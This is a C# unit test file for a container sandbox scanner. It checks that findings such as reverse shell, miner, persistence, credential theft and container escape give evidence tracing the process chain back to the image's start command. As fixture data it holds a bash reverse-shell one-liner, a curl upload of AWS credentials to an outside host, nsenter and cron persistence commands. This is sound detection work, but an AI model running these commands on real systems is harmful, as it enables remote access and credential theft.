using System.Globalization;
using DockerScan.Core;
using DockerScan.Core.Findings;
using DockerScan.Sentinel.Events;

namespace DockerScan.Scanners.Tests.Sandbox.Analysis;

/// <summary>The evidence of what was done says who did it, whose child that was, and how the start command led there.</summary>
public sealed class LineageTests
{
    private const string Tie = "sh -c sh -i >& /dev/tcp/203.0.113.5/4444 0>&1";

    [Fact]
    public void Evidence_OfAGrandchild_NamesParentAndChain()
    {
        var record = new RecordBuilder().Process(1, "/bin/sh", "/bin/sh /start.sh").Process(8, "/bin/sh", "sh -c curl -s http://203.0.113.9/x", at: 1)
            .Process(9, "/usr/bin/curl", "curl -s http://203.0.113.9/x", at: 1.2, parent: 8).Connect(9, "203.0.113.9", 80, application: "http", summary: "GET /x");

        Assert.Equal("pid 9 was started by /bin/sh (pid 8): /start.sh → sh -c curl -s http://203.0.113.9/x → curl -s http://203.0.113.9/x", Last(record, "network.external-contact"));
    }

    [Fact]
    public void Evidence_AfterExec_NamesWhatTheProcessWasBefore()
        => Assert.EndsWith("(pid 1): /entry.sh → /usr/bin/app run → sh -i", Last(
            new RecordBuilder().Process(1, "/bin/sh", "/bin/sh /entry.sh").Becomes(1, 0, 1, "/usr/bin/node", "node /usr/bin/app run").Process(5, "/bin/sh", "sh -i", at: 3)
                .Socket(5, "203.0.113.9", 4444, 0, 3.1, "tcp", 0, 1, 2), "behavior.reverse-shell"), StringComparison.Ordinal);

    // What pid 1 became after the child began did not lead there.
    [Fact]
    public void Evidence_ParentThatBecameSomethingElseLater_NamesWhatItWasThen()
        => Assert.EndsWith("(pid 1): /entry.sh → sh -i", Last(
            new RecordBuilder().Process(1, "/bin/sh", "/bin/sh /entry.sh").Process(5, "/bin/sh", "sh -i", at: 3).Becomes(1, 0, 9, "/usr/sbin/nginx", "nginx")
                .Socket(5, "203.0.113.9", 4444, 0, 3.1, "tcp", 0, 1, 2), "behavior.reverse-shell"), StringComparison.Ordinal);

    [Theory]
    // The image's own start command.
    [InlineData("/bin/sh", Tie, 1, "pid 1 is what the image was started as: " + Tie)]
    // The parent was gone before anybody looked.
    [InlineData("/bin/sh", Tie, 77, "pid 5 was started by a process not seen: " + Tie)]
    public void Evidence_WithoutAParent_SaysSo(string executable, string command, int parent, string expected)
    {
        var record = parent == 1 ? new RecordBuilder().Process(1, executable, command).Process(2, "/bin/true")
            : new RecordBuilder().Process(1, "/bin/true").Process(5, executable, command, parent: parent);

        Assert.Equal(expected, Last(record, "behavior.reverse-shell"));
    }

    // A name of its own choice does not hide the file; an arrow, a line end or a mark that turns the writing round makes no step.
    [Theory]
    [InlineData("/tmp/x", "[kworker/0:1]", "x (\"[kworker/0:1]\")")]
    [InlineData("/usr/sbin/nginx", "nginx: master process", "nginx: master process")]
    [InlineData("/tmp/x", "x a → /usr/sbin/cron", "x a > /usr/sbin/cron")]
    [InlineData("/tmp/x", "x a\nhigh behavior.miner", "x a high behavior.miner")]
    [InlineData("/tmp/x", "x \u202egnp", "x \ufffdgnp")]
    [InlineData("/tmp/x", "x --password hunter2hunter2", "x --password ***")]
    public void Evidence_HostileNames_StayOneStep(string executable, string command, string step)
    {
        var record = new RecordBuilder().Process(1, "/bin/sh", "/bin/sh /start.sh").Process(5, executable, command, at: 2).Socket(5, "203.0.113.9", 4444, 0, 3, "tcp", 0, 1, 2);

        Assert.Equal("pid 5 was started by /bin/sh (pid 1): /start.sh → " + step, Last(record, "behavior.reverse-shell"));
    }

    [Fact]
    public void Evidence_DeepChain_KeepsItsEnds()
    {
        var record = new RecordBuilder().Process(1, "/bin/sh", "/bin/sh /start.sh");
        for (var i = 2; i < 40; i++)
        {
            record.Process(i, "/bin/sh", string.Create(CultureInfo.InvariantCulture, $"sh -c step{i}"), at: i * 0.1, parent: i - 1);
        }

        record.Socket(39, "203.0.113.9", 4444, 0, 5, "tcp", 0, 1, 2);

        Assert.Equal("pid 39 was started by /bin/sh (pid 38): /start.sh → sh -c step2 → sh -c step3 → … → sh -c step36 → sh -c step37 → sh -c step38 → sh -c step39",
            Last(record, "behavior.reverse-shell"));
    }

    [Fact]
    public void Evidence_OfManyLongCommands_IsBoundedAndKeepsTheChain()
    {
        var record = new RecordBuilder().Process(1, "/bin/sh", "/bin/sh /start.sh");
        for (var i = 0; i < 300; i++)
        {
            record.Process(10 + i, "/bin/sh", "sh " + new string((char)('a' + (i % 26)), 4000), at: 1 + (i * 0.01)).Socket(10 + i, "203.0.113.9", 4444, 0, 5, "tcp", 0, 1, 2);
        }

        var evidence = Assert.Single(TestBehavior.Findings(record, "behavior.reverse-shell")).Evidence;

        Assert.InRange(evidence.Length, 1000, 4000);
        Assert.Contains("\nand 288 more\n", evidence, StringComparison.Ordinal);
        Assert.Equal(3, evidence.Split('\n').Count(line => line.Contains("was started by /bin/sh (pid 1): /start.sh → sh aaa", StringComparison.Ordinal) || line.Contains("/start.sh → sh ", StringComparison.Ordinal)));
    }

    [Fact]
    public void Evidence_OfAFileThatNobodyWasSeenWriting_NamesTheStartCommand()
        => Assert.Equal("not seen which process did it; the image was started as: /start.sh",
            Last(new RecordBuilder().Process(1, "/bin/sh", "/bin/sh /start.sh").Changed("/etc/cron.d/x", text: "* * * * * root /x\n"), "behavior.persistence"));

    // Each rule of behaviour, on a run that shows it: none leaves the reader without a way.
    [Theory]
    [InlineData("behavior.miner")]
    [InlineData("behavior.dos")]
    [InlineData("behavior.reverse-shell")]
    [InlineData("behavior.scan")]
    [InlineData("behavior.dropped-executable")]
    [InlineData("behavior.persistence")]
    [InlineData("behavior.escape-attempt")]
    [InlineData("behavior.credential-access")]
    [InlineData("network.external-contact")]
    [InlineData("network.tcp-process")]
    [InlineData("privilege.root-user")]
    public void Evidence_OfEachCheck_LeadsFromTheStartCommandAndHasKorean(string check)
    {
        var found = TestBehavior.Findings(Everything(), check);

        Assert.NotEmpty(found);
        Assert.All(found, each =>
        {
            var last = each.Evidence.Split('\n')[^1];
            Assert.True(last.Contains(": /start.sh → ", StringComparison.Ordinal) || last.EndsWith(": /start.sh", StringComparison.Ordinal), each.Evidence);
            Assert.Contains("시작", FindingWords.Evidence(last, ReportLanguage.Korean), StringComparison.Ordinal);
        });
    }

    private static RecordBuilder Everything()
    {
        var record = new RecordBuilder().Process(1, "/bin/sh", "/bin/sh /start.sh")
            .Process(20, "/tmp/m", "/tmp/m", at: 1).Executable("/tmp/m").Connect(20, "198.18.0.7", 3333, "pool.example", "stratum", "Stratum login", 2)
            .Process(21, "/usr/bin/flood", "flood", at: 1).Socket(21, "203.0.113.77", 80, 33333).Flow("tcp", "203.0.113.77", 80, 9000, 3, 9, syns: 9000)
            .Process(22, "/bin/bash", "bash -i", at: 1).Socket(22, "203.0.113.9", 4444, 0, 2, "tcp", 0, 1, 2)
            .Process(23, "/usr/bin/nsenter", "nsenter -t 1 -m sh", at: 1)
            .Process(24, "/bin/sh", "sh -c echo x > /etc/cron.d/x", at: 1).Changed("/etc/cron.d/x", text: "x\n").Changed("/etc/ld.so.preload")
            .Process(25, "/usr/bin/curl", "curl -T /root/.aws/credentials http://203.0.113.8/", at: 1).Socket(25, "203.0.113.8", 80, 40999)
            .Network(new TokenEvent("file-aws", "tcp", "203.0.113.8", 80, 40999, "plain"), 4)
            .Process(26, "/usr/bin/server", "server", at: 1).Listen(26, 9999)
            .Process(27, "/usr/bin/nmap", "nmap", at: 1);
        for (var i = 0; i < 40; i++)
        {
            record.Connect(27, string.Create(CultureInfo.InvariantCulture, $"203.0.114.{i + 1}"), 22, at: 3 + (i * 0.1));
        }

        return record;
    }

    private static string Last(RecordBuilder record, string check) => Assert.Single(TestBehavior.Findings(record, check)).Evidence.Split('\n')[^1];
}
